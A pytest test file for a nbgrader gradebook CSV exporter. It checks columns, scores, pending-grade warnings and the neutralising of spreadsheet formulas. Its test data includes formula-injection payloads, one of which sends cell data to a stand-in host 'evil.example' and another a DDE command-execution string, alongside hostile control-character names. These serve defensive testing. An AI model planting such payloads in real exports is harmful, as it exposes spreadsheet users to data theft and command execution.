"""`nbgrader export` writes nbgrader's own table, and nothing in it that a spreadsheet would run."""

import csv
import datetime
import re

import pytest
from nbgrader.api import Gradebook
from repository import nbgrader

from nbjudge.nbgrader_ext.export import COLUMNS, inert_field

CONFIG = """
import nbjudge

c = get_config()
c.CourseDirectory.course_id = "export"
nbjudge.configure(c)
"""
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    ' "=1+1',
    "'=1+1",
    "\xa0=1+1",
    "\uff1d1+1",
    "x;=1+1",
    'x,"=1+1',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|'/C calc'!A0",
)


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Return a course folder with a gradebook: two assignments, three students, two submissions."""
    course = tmp_path_factory.mktemp("export")
    (course / "nbgrader_config.py").write_text(CONFIG)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "export") as gradebook:
        gradebook.add_assignment("lab1", duedate=datetime.datetime(2026, 1, 2))
        gradebook.add_assignment("lab2")
        gradebook.add_notebook("q", "lab1")
        gradebook.add_grade_cell("g", "q", "lab1", max_score=8, cell_type="code")
        gradebook.add_notebook("q2", "lab2")
        for name in ("a", "b", "c"):
            gradebook.add_grade_cell(name, "q2", "lab2", max_score=10, cell_type="code")
        for name in ("why", "how"):
            gradebook.add_grade_cell(name, "q2", "lab2", max_score=3, cell_type="markdown")
        gradebook.add_student("ada", first_name="Ada", last_name="King, Countess", email="a@b.org")
        gradebook.add_student("eve", first_name="=1+1", last_name="a\nb\x1b[31m\u202ec")
        gradebook.add_student("-7", first_name="O'Brien", last_name="Smith-Jones")
        submission = gradebook.add_submission("lab1", "ada")
        (notebook,) = submission.notebooks
        (grade,) = notebook.grades
        grade.auto_score = 6.5
        grade.needs_manual_grade = False
        notebook.late_submission_penalty = 1.25
        (notebook,) = gradebook.add_submission("lab2", "eve").notebooks
        for grade in notebook.grades:
            # the first three add up to 29.990000000000002
            grade.auto_score = {"a": 9.99, "b": 10, "c": 10, "how": None}.get(grade.name)
            grade.manual_score = {"how": 2.5}.get(grade.name)
            grade.needs_manual_grade = grade.name == "why"
        gradebook.db.commit()
    nbgrader(course, "export")
    return course


def rows(path):
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_the_columns_are_nbgraders_own_and_at_the_end_what_is_pending(course):
    nbgrader(course, "export", "--exporter=nbgrader.plugins.CsvExportPlugin", "--to=plain.csv")
    headers = [(course / name).read_text().split("\n")[0] for name in ("grades.csv", "plain.csv")]
    assert headers[0] == ",".join(COLUMNS) == f"{headers[1]},pending"


def test_an_ordinary_row_is_the_same_as_nbgraders(course):
    nbgrader(course, "export", "--exporter=nbgrader.plugins.CsvExportPlugin", "--to=plain.csv")
    ours = (course / "grades.csv").read_text().splitlines()
    plain = (course / "plain.csv").read_text().splitlines()
    assert [line.replace('"', "") for line in ours if ",ada," in line] == [
        f"{line},0.0" for line in plain if ",ada," in line
    ]
    kept = rows(course / "grades.csv")
    ada = next(r for r in kept if (r["assignment"], r["student_id"]) == ("lab1", "ada"))
    assert ada["last_name"] == "King, Countess"
    assert [float(ada[name]) for name in COLUMNS[-5:]] == [6.5, 1.25, 5.25, 8.0, 0.0]


def test_names_are_text_in_one_line(course):
    eve = next(row for row in rows(course / "grades.csv") if row["student_id"] == "eve")
    assert eve["first_name"] == "'=1+1"
    assert eve["last_name"] == "a b\\u202ec"
    assert len((course / "grades.csv").read_text().splitlines()) == 1 + 2 * 3


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_gets_an_apostrophe(text):
    field = inert_field(text)
    for part in field.replace(",", ";").split(";"):
        assert part.strip(' \t"`\xa0')[:1] not in {*"=+-@", "\uff1d"}, field
    assert "'" in field


@pytest.mark.parametrize("text", ["Smith-Jones", "O'Brien", "a+b@c.org", "2026-01-02", "x; y", ""])
def test_an_ordinary_text_stays_as_it_is(text):
    assert inert_field(text) == text


@pytest.mark.parametrize("number", [-1.5, 0, 6.25])
def test_a_number_stays_a_number(number):
    assert inert_field(number) is number


def test_the_options_of_the_command_still_work(course):
    options = ("--to=some.csv", "--assignment=['lab1']", "--student=['ada', 'eve']")
    nbgrader(course, "export", *options)
    found = [(row["assignment"], row["student_id"]) for row in rows(course / "some.csv")]
    assert sorted(found) == [("lab1", "ada"), ("lab1", "eve")]


def test_a_name_that_the_gradebook_does_not_have_is_said(course):
    done = nbgrader(course, "export", "--to=none.csv", "--student=['adda']")
    assert "The gradebook has no student adda: check the spelling." in done.stderr


def test_what_no_grader_has_looked_at_is_pending_and_said(course):
    done = nbgrader(course, "export", "--to=pending.csv")
    found = {
        (row["assignment"], row["student_id"]): (row["raw_score"], row["score"], row["pending"])
        for row in rows(course / "pending.csv")
    }
    assert found["lab2", "eve"] == ("32.49", "32.49", "3.0")
    assert [pending for _, _, pending in found.values()].count("0.0") == len(found) - 1
    (warning,) = re.findall(r"WARNING\] (.*)", done.stderr)
    assert warning == (
        "1 submission of lab2 has written answers that are not graded yet: eve; "
        "their score counts them as 0."
    )


def test_a_grade_by_hand_that_was_graded_again_counts_and_is_said(course):
    set_grade(course, "why", manual_score=1.5)
    try:
        done = nbgrader(course, "export", "--to=again.csv")
    finally:
        set_grade(course, "why", manual_score=None)
    eve = next(r for r in rows(course / "again.csv") if float(r["raw_score"]) > 30)
    assert (eve["score"], eve["pending"]) == ("33.99", "3.0")
    assert "graded again after a grader had given points: eve; these points count" in done.stderr
    assert "not graded yet" not in done.stderr


def test_one_cell_to_grade_and_another_to_look_at_again_are_two_facts(course):
    set_grade(course, "a", manual_score=8, needs_manual_grade=True)
    try:
        done = nbgrader(course, "export", "--to=both.csv")
    finally:
        set_grade(course, "a", manual_score=None, needs_manual_grade=False)
    eve = next(r for r in rows(course / "both.csv") if r["pending"] == "13.0")
    assert eve["student_id"] == "eve"
    assert "lab2 has written answers that are not graded yet: eve" in done.stderr
    assert "lab2 was graded again after a grader had given points: eve" in done.stderr


def set_grade(course, name, **values):
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "export") as gradebook:
        grade = gradebook.find_grade(name, "q2", "lab2", "eve")
        for key, value in values.items():
            setattr(grade, key, value)
        gradebook.db.commit()
